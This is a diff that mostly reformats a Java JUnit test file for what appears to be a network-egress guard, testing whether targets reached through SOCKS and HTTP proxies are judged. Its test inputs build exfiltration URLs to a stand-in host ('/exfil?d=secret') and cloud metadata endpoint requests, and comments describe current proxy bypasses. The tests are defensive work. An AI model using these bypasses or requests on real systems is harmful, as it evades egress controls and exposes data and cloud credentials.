@@ -12,16 +12,19 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * Proxies: the socket goes to the proxy (internal 127.0.0.1, or an allowed host), the real target is only
- * in the SOCKS request or the HTTP request line / CONNECT. The target must be judged, and a denied target
- * must never be named to the proxy. The fake proxies forward nothing; they record what they were asked.
+ * Proxies: the socket goes to the proxy (internal 127.0.0.1, or an allowed host), the real target
+ * is only in the SOCKS request or the HTTP request line / CONNECT. The target must be judged, and a
+ * denied target must never be named to the proxy. The fake proxies forward nothing; they record
+ * what they were asked.
  */
 class ProxyTest {
   @TempDir Path dir;
 
   private static void proxyNeverAsked(FakeProxy proxy, String what) {
     List<String> asked = proxy.requests();
-    assertTrue(asked.stream().noneMatch(r -> r.contains(what)), "the proxy was asked for " + what + ": " + asked);
+    assertTrue(
+        asked.stream().noneMatch(r -> r.contains(what)),
+        "the proxy was asked for " + what + ": " + asked);
   }
 
   @Test
@@ -34,7 +37,10 @@ class ProxyTest {
           () -> H.denied(run, evil, "ConnectException"),
           () -> H.ok(run, allowed),
           () -> proxyNeverAsked(socks, Hosts.EVIL),
-          () -> assertTrue(socks.requests().contains("SOCKS5 " + Hosts.ALLOWED + ":443"), socks.requests().toString()),
+          () ->
+              assertTrue(
+                  socks.requests().contains("SOCKS5 " + Hosts.ALLOWED + ":443"),
+                  socks.requests().toString()),
           () -> H.userCaller(H.record(run, Hosts.EVIL, "not-allowed", "TCP")));
     }
   }
@@ -64,8 +70,9 @@ class ProxyTest {
   }
 
   /**
-   * BYPASS today: a SOCKS target given as an address (not a name) is sent to the proxy without any check;
-   * the agent sees only the connect to the internal proxy. Expected: denied like a direct connect to 127.0.0.3.
+   * BYPASS today: a SOCKS target given as an address (not a name) is sent to the proxy without any
+   * check; the agent sees only the connect to the internal proxy. Expected: denied like a direct
+   * connect to 127.0.0.3.
    */
   @Test
   void bypass_socksWithALiteralDeniedAddressIsJudged() {
@@ -79,7 +86,9 @@ class ProxyTest {
     }
   }
 
-  /** BYPASS today: under FULL_ACCESS, user code reaches the metadata address through a SOCKS proxy. */
+  /**
+   * BYPASS today: under FULL_ACCESS, user code reaches the metadata address through a SOCKS proxy.
+   */
   @Test
   void bypass_socksToTheMetadataAddressIsDeniedUnderFullAccess() {
     try (FakeProxy socks = FakeProxy.socks("127.0.0.1")) {
@@ -95,15 +104,21 @@ class ProxyTest {
   }
 
   /**
-   * BYPASS today: HttpURLConnection through an HTTP proxy on the internal network. The request line names
-   * http://evil.example.net/ but the agent sees only the connect to 127.0.0.1. The sanity attempt (an
-   * allowed target through the same proxy) must keep working.
+   * BYPASS today: HttpURLConnection through an HTTP proxy on the internal network. The request line
+   * names http://evil.example.net/ but the agent sees only the connect to 127.0.0.1. The sanity
+   * attempt (an allowed target through the same proxy) must keep working.
    */
   @Test
   void bypass_httpProxyTargetIsJudgedForHttpUrlConnection() {
     try (FakeProxy proxy = FakeProxy.http("127.0.0.1")) {
-      String evil = a("proxy-urlconn", "127.0.0.1", proxy.port(), "http://" + Hosts.EVIL + ":8080/exfil?d=secret");
-      String allowed = a("proxy-urlconn", "127.0.0.1", proxy.port(), "http://" + Hosts.ALLOWED + ":8080/ok");
+      String evil =
+          a(
+              "proxy-urlconn",
+              "127.0.0.1",
+              proxy.port(),
+              "http://" + Hosts.EVIL + ":8080/exfil?d=secret");
+      String allowed =
+          a("proxy-urlconn", "127.0.0.1", proxy.port(), "http://" + Hosts.ALLOWED + ":8080/ok");
       AgentJvm.Result run = H.runUser(H.jvm(dir), evil, allowed);
       assertAll(
           () -> H.denied(run, evil, "ConnectException"),
@@ -113,11 +128,15 @@ class ProxyTest {
     }
   }
 
-  /** BYPASS today: the proxy is an allowed host (allowed.example.com) that happens to be an open proxy. */
+  /**
+   * BYPASS today: the proxy is an allowed host (allowed.example.com) that happens to be an open
+   * proxy.
+   */
   @Test
   void bypass_httpProxyOnAnAllowedHostDoesNotOpenEveryTarget() {
     try (FakeProxy proxy = FakeProxy.http(Hosts.address(Hosts.ALLOWED))) {
-      String evil = a("proxy-urlconn", Hosts.ALLOWED, proxy.port(), "http://" + Hosts.EVIL + "/exfil");
+      String evil =
+          a("proxy-urlconn", Hosts.ALLOWED, proxy.port(), "http://" + Hosts.EVIL + "/exfil");
       AgentJvm.Result run = H.runUser(H.jvm(dir), evil);
       assertAll(
           () -> H.denied(run, evil, "ConnectException"),
@@ -130,7 +149,8 @@ class ProxyTest {
   @Test
   void bypass_httpProxyFromSystemPropertiesIsJudged() {
     try (FakeProxy proxy = FakeProxy.http("127.0.0.1")) {
-      String evil = a("proxy-sysprop", "127.0.0.1", proxy.port(), "http://" + Hosts.EVIL + "/exfil");
+      String evil =
+          a("proxy-sysprop", "127.0.0.1", proxy.port(), "http://" + Hosts.EVIL + "/exfil");
       AgentJvm.Result run = H.runUser(H.jvm(dir), evil);
       assertAll(
           () -> H.denied(run, evil, "ConnectException"),
@@ -139,12 +159,17 @@ class ProxyTest {
     }
   }
 
-  /** BYPASS today: java.net.http.HttpClient with a proxy: absolute-form request line (http) and CONNECT (https). */
+  /**
+   * BYPASS today: java.net.http.HttpClient with a proxy: absolute-form request line (http) and
+   * CONNECT (https).
+   */
   @Test
   void bypass_httpClientProxyTargetIsJudged() {
     try (FakeProxy proxy = FakeProxy.http("127.0.0.1")) {
-      String plain = a("proxy-client", "127.0.0.1", proxy.port(), "http://" + Hosts.EVIL + "/exfil");
-      String tunnel = a("proxy-client", "127.0.0.1", proxy.port(), "https://" + Hosts.EVIL + "/exfil");
+      String plain =
+          a("proxy-client", "127.0.0.1", proxy.port(), "http://" + Hosts.EVIL + "/exfil");
+      String tunnel =
+          a("proxy-client", "127.0.0.1", proxy.port(), "https://" + Hosts.EVIL + "/exfil");
       AgentJvm.Result run = H.runUser(H.jvm(dir), plain, tunnel);
       assertAll(
           () -> H.denied(run, plain, "ConnectException"),
@@ -154,13 +179,20 @@ class ProxyTest {
     }
   }
 
-  /** BYPASS today: under FULL_ACCESS, the metadata endpoint through an HTTP proxy from user code. */
+  /**
+   * BYPASS today: under FULL_ACCESS, the metadata endpoint through an HTTP proxy from user code.
+   */
   @Test
   void bypass_httpProxyToTheMetadataEndpointIsDeniedUnderFullAccess() {
     try (FakeProxy proxy = FakeProxy.http("127.0.0.1")) {
-      String byAddress = a("proxy-urlconn", "127.0.0.1", proxy.port(), "http://169.254.169.254/latest/meta-data/");
-      String byName = a("proxy-urlconn", "127.0.0.1", proxy.port(),
-          "http://" + Hosts.METADATA_NAME + "/computeMetadata/v1/");
+      String byAddress =
+          a("proxy-urlconn", "127.0.0.1", proxy.port(), "http://169.254.169.254/latest/meta-data/");
+      String byName =
+          a(
+              "proxy-urlconn",
+              "127.0.0.1",
+              proxy.port(),
+              "http://" + Hosts.METADATA_NAME + "/computeMetadata/v1/");
       AgentJvm.Result run = H.runUser(H.jvm(dir, H.fullAccessPolicy(dir)), byAddress, byName);
       assertAll(
           () -> H.denied(run, byAddress, "ConnectException"),
